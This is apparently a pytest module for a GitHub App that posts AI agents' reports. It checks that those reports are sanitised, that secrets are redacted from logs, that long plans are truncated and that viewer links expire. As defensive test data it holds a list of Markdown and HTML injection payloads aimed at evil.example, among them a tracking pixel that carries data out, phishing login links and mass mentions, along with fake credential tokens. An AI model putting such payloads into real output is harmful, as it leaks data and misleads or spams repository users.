"""M8: what an agent reports is posted under the App's name only after it can no longer mention
anyone, load remote images, link outside GitHub or leak a credential; log chunks lose their
secrets before anyone sees them; a public repository's viewer links end with the run. Issue 11:
a plan longer than GitHub allows is cut with a link to the whole text, and a retried plan step
posts the plan once."""

from __future__ import annotations

import re

import httpx
import pytest

from app.agents import lifecycle, runs
from app.github import markdown
from app.stream import chunks
from tests.agents.loop import AUDIENCE
from tests.agents.test_lifecycle import start
from tests.harness import AGENT_WORKFLOW, drain
from tests.security.rendered import assert_renders_harmless, render
from tests.webhooks import for_repo

# Each a way Markdown (as GitHub renders it) makes a link, an image or a mention; the first six
# got through the regular expressions this module used before it parsed.
ATTACKS = {
    "image-label-with-brackets": "![a [b] c](https://evil.example/p.png)",
    "link-with-title": "[login](https://evil.example/login 'Sign in')",
    "link-in-angle-brackets": "[x](<https://evil.example/a b>)",
    "link-label-with-brackets": "[a [b] c](https://evil.example/login)",
    "reference-in-quote": "> [x]: //evil.example/p.png\n\n![a][x] and [b][x]",
    "gfm-www-autolink": "see www.evil.example/login.",
    "bare-url": "see https://evil.example now",
    "angle-autolink": "<https://evil.example>",
    "html-image": '<img src="https://evil.example/p.png">',
    "html-link": '<a href="https://evil.example">x</a>',
    "html-block": '<div>\n<img src="https://evil.example/p.png">\n</div>',
    "mentions": "cc @alice and @octo-org/security",
    "entity-mention": "&#64;alice",
    "email": "mail admin@evil.example",
    "escaped-link-text": "\\[x\\](https://evil.example/y)",
    "image-after-bang": "Done![x](https://github.com/o/r)",
    "in-a-table": "| a |\n|---|\n| [x](https://evil.example) www.evil.example |",
    "nested-in-list": "- [x](https://evil.example)\n  > ![i](https://evil.example/i.png)",
    "details-summary": "<details>\n<summary>@alice www.evil.example</summary>\n\nx\n</details>",
}

HOSTILE = (
    "## Summary\n"
    "Fixed. cc @octo-org/security @alice\n"
    "![status](https://evil.example/pixel.png?issue=secret)\n"
    '<img src="https://evil.example/x.png">\n'
    "[Sign in to continue](https://evil.example/login) and [the PR](https://github.com/o/r/pull/1)\n"
    "Token for later: ghs_0123456789abcdefghijKLMNOPqrstuv.wxyz_0123\n"
    "Key: sk-ant-api03-abcdefghijklmnopqrstuvwxyz\n"
    "```\n@in-code stays as code\n```\n\n" + "\n\n".join(ATTACKS.values()) + "\n"
)

# What an agent legitimately writes: it must read the same after sanitising.
BENIGN = """## Plan

Fix the *checkout* bug in `app/cart.py` (see [the PR](https://github.com/o/r/pull/1) and #12).

1. Edit `total()` so that **rounding** happens once
2. Add a test for snake_case_name:
   - the empty cart
   - ~~a negative total~~ (impossible)

- [ ] write the migration
- [x] reproduce it

> Note: the old code was wrong.

| file | change |
|:-----|------:|
| `app/cart.py` | rounding |

```python
@pytest.mark.parametrize("x", [1, 2])
def test_total(x): ...
```

---

Costs $0.10 & takes 5 min. Done!
See https://github.com/o/r/issues/3 and <https://github.com/o/r/pull/4>.
"""


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_agent_markdown_renders_no_outside_link_image_or_mention(attack):
    text = markdown.agent_markdown(attack, ["github.com"])

    assert_renders_harmless(text)


def test_agent_markdown_keeps_legitimate_formatting():
    text = markdown.agent_markdown(BENIGN, ["github.com"])

    assert render(text) == render(BENIGN)
    assert '<a href="https://github.com/o/r/pull/1">the PR</a>' in render(text)


def test_an_address_shown_as_code_is_not_cut_into_a_bare_link():
    text = markdown.agent_markdown("x " * 40 + "see https://evil.example/" + "a" * 80, [])

    for limit in range(60, len(text)):
        assert_renders_harmless(markdown.cut(text, limit, "_(cut)_"))


@pytest.fixture
def project(github, repo):
    _, repository = repo
    github.add_workflow(repository, "dispatch-agent.yml", AGENT_WORKFLOW)
    github.set_permission(repository, "alice", "write")
    return repo


async def report(client, oidc, project, run, event):
    token = oidc.token(
        AUDIENCE,
        repository=project[1]["full_name"],
        repository_id=project[1]["id"],
        run_id=run.workflow_run_id,
    )
    return await client.post(
        f"/api/runs/{run.id}/events", json=event, headers={"authorization": f"Bearer {token}"}
    )


def assert_harmless(text: str, requester: str | None = None) -> None:
    assert_renders_harmless(text, mentions=(requester,) if requester else ())
    assert "ghs_0123456789" not in text and "sk-ant-api03" not in text


async def test_a_hostile_plan_and_summary_are_posted_harmless(
    rt, client, oidc, github, project, deliver
):
    number, run = await start(github, project, deliver)

    assert (await report(client, oidc, project, run, {"type": "plan", "body": HOSTILE})).is_success
    completed = {
        "type": "completed",
        "outcome": "investigation_complete",
        "summary": HOSTILE,
        "cost_usd": 0.1,
        "turns": 3,
    }
    assert (await report(client, oidc, project, run, completed)).is_success
    await drain(rt)

    comments = github.bot_comments(project[1], number)
    plan = next(c for c in comments if "Plan from run" in c)
    status = next(c for c in comments if f"dispatch:run:{run.id}" in c)
    assert_harmless(plan)
    assert_harmless(status, requester="alice")  # "requested by @alice": the one mention
    assert "[the PR](https://github.com/o/r/pull/1)" in plan  # GitHub links stay links
    assert "@in-code stays as code" in plan


async def test_secrets_in_terminal_output_never_reach_viewers(rt, client, github, project, deliver):
    _, run = await start(github, project, deliver)

    await chunks.append(run.id, 1, "export GH_TOKEN=ghs_0123456789abcdefghijKLMNOP.qrs\n")

    [chunk] = await chunks.since(run.id, 0)
    assert "ghs_" not in chunk.data and "[redacted]" in chunk.data


async def test_a_plan_longer_than_github_allows_is_cut_with_a_link_to_all_of_it(
    rt, client, oidc, github, project, deliver
):
    number, run = await start(github, project, deliver)
    body = "## Summary\n" + "\n".join(f"step {n}: " + "x" * 60 for n in range(1100))
    assert len(body) > 70_000

    await report(client, oidc, project, run, {"type": "plan", "body": body})
    await drain(rt)

    plan = next(c for c in github.bot_comments(project[1], number) if "Plan from run" in c)
    assert len(plan) <= 65_536
    link = re.search(r"\[read all of it\]\((http://dispatch\.test[^)]+)\)", plan).group(1)
    local = link.replace("http://dispatch.test", str(client.base_url))
    async with httpx.AsyncClient() as http:
        whole = await http.get(local)
    assert whole.status_code == 200 and whole.text == body
    assert whole.headers["content-type"].startswith("text/plain")


async def test_a_retried_plan_step_posts_the_plan_once(rt, client, oidc, github, project, deliver):
    number, run = await start(github, project, deliver)
    await report(client, oidc, project, run, {"type": "plan", "body": "## Summary\nDo it."})
    await drain(rt)

    # The effects job runs again (a worker died after posting, before finishing).
    await lifecycle.effects(rt, {"run": run.id, "event": "plan", "plan": "## Summary\nDo it."})

    plans = [c for c in github.bot_comments(project[1], number) if "Plan from run" in c]
    assert len(plans) == 1


async def test_a_public_repositorys_viewer_link_ends_with_the_run(
    rt, client, oidc, github, project, deliver
):
    installation, repository = project
    # The App learns of the repository (public) through its installation event.
    payload = for_repo("installation_repositories/added", installation, repository)
    payload["repositories_added"] = [
        {"id": repository["id"], "full_name": repository["full_name"], "private": False}
    ]
    await deliver("installation_repositories", payload)
    number, run = await start(github, project, deliver)
    status = next(c for c in github.bot_comments(repository, number) if f"run:{run.id}" in c)
    link = re.search(r"\[watch the stream\]\(http://dispatch\.test([^)]+)\)", status).group(1)
    assert (await client.get(link)).status_code == 200

    await report(
        client,
        oidc,
        project,
        run,
        {"type": "completed", "outcome": "failed", "summary": "x", "cost_usd": 0, "turns": 1},
    )
    await drain(rt)

    assert (await client.get(link)).status_code == 404
    assert (await runs.get(run.id)).viewer_key is None
    status = next(c for c in github.bot_comments(repository, number) if f"run:{run.id}" in c)
    assert "watch the stream" not in status
